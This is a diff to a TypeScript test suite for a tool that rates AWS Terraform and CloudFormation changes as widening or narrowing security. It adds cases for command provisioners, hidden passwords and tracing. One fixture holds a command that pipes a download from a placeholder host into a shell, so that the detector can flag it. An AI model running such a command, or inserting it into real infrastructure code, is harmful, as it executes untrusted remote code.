@@ -70,7 +70,7 @@ const SPECIAL: readonly Case[] = [
     filter("{ $.eventName = B }"),
     said("audited", "narrow"),
   ),
-  tf("other events", filter("{ $.eventName = A }"), filter("{ $.eventName = B }"), said("audited", "unknown")),
+  tf("other events", filter("{ $.eventName = A }"), filter("{ $.eventName = B }"), said("audited", "widen")),
   tf(
     "an alarm is about something else",
     filter("{ $.eventName = A }") + alarm('"m"'),
@@ -211,12 +211,20 @@ const POLICIES: readonly Case[] = [
   ),
   tf("the policy that every key has", one("aws_kms_key"), keyPolicy(OWN), said("setting", "neutral")),
   tf(
-    "a key for another account",
+    "a key for an account that may be its own",
     one("aws_kms_key"),
     keyPolicy("arn:aws:iam::111122223333:root"),
-    said("can", "widen"),
-    said("member-of", "widen"),
+    said("can", "unknown"),
+    said("member-of", "unknown"),
     said("setting", "narrow"),
+  ),
+  tf(
+    "a key for one party more",
+    keyPolicy("arn:aws:iam::1:role/a"),
+    keyPolicy("*"),
+    said("member-of", "widen"),
+    said("setting", "widen"),
+    said("can", "neutral"),
   ),
   tf(
     "policies of the account decide again",
@@ -255,7 +263,7 @@ const MODULES: readonly Case[] = [
     wafOf("aws_lb.it.arn"),
     wafOf("aws_lb.other.arn"),
     said("setting", "widen"),
-    said("edge-guard", "narrow"),
+    said("edge-guard", "unknown"),
   ),
   tf(
     "a person signs in to the console",
@@ -293,13 +301,48 @@ const ingress = (cidr: string): string =>
   );
 const skill = (secret: string): string =>
   `Resources:\n  It:\n    Type: Alexa::ASK::Skill\n    Properties:\n      AuthenticationConfiguration:\n        ClientSecret: "${secret}"\n`;
+const provisioner = (command: string): string =>
+  one("aws_instance", `provisioner "local-exec" {\n command = "${command}"\n}`);
+const COMMANDS: readonly Case[] = [
+  tf("a command where it is applied", one("aws_instance"), provisioner("./register.sh"), said("executes", "widen")),
+  tf("no command any more", provisioner("./register.sh"), one("aws_instance"), said("executes", "narrow")),
+  tf("another command", provisioner("./register.sh"), provisioner("./other.sh")),
+  tf(
+    "a download that runs",
+    one("aws_instance"),
+    provisioner("curl -s https://x.example/i.sh | sh"),
+    said("executes", "widen", "runs a command where it is applied"),
+    said("executes", "widen", "pipes a download into a shell"),
+  ),
+  tf(
+    "a program that is asked",
+    'data "external" "it" {\n  query = {}\n}\n',
+    'data "external" "it" {\n  program = ["python", "who.py"]\n  query = {}\n}\n',
+    said("executes", "widen"),
+  ),
+  tf(
+    "any image of that name",
+    'data "aws_ami" "it" {\n  owners = ["self"]\n}\n',
+    'data "aws_ami" "it" {\n}\n',
+    said("setting", "widen"),
+  ),
+];
+
+const asked = (rest: string): string =>
+  `AWSTemplateFormatVersion: "2010-09-09"\nParameters:\n  MasterPassword:\n    Type: String\n${rest}Resources: {}\n`;
+const shared = (tracing: string): string =>
+  `Transform: AWS::Serverless-2016-10-31\nGlobals:\n  Function:\n    Timeout: 3\n${tracing}Resources: {}\n`;
 const TEMPLATES: readonly Case[] = [
+  cfn("a password that all may read", asked("    NoEcho: true\n"), asked(""), said("setting", "widen")),
+  cfn("a password that is hidden", asked(""), asked("    NoEcho: true\n"), said("setting", "narrow")),
+  cfn("a password of a length", asked(""), asked("    MinLength: 12\n")),
+  cfn("functions are traced no more", shared("    Tracing: Active\n"), shared(""), said("audited", "widen")),
   cfn(
     "a network without its log",
     stack("AWS::EC2::VPC", "", flows("It")),
     stack("AWS::EC2::VPC", "", flows("Given")),
     said("audited", "widen"),
-    said("edge-guard", "narrow"),
+    said("edge-guard", "unknown"),
   ),
   cfn(
     "a log of nothing",
@@ -331,4 +374,4 @@ const TEMPLATES: readonly Case[] = [
   ),
 ];
 
-export const CLOUD_AMAZON_CASES: readonly Case[] = [...SPECIAL, ...POLICIES, ...MODULES, ...TEMPLATES];
+export const CLOUD_AMAZON_CASES: readonly Case[] = [...SPECIAL, ...POLICIES, ...MODULES, ...COMMANDS, ...TEMPLATES];
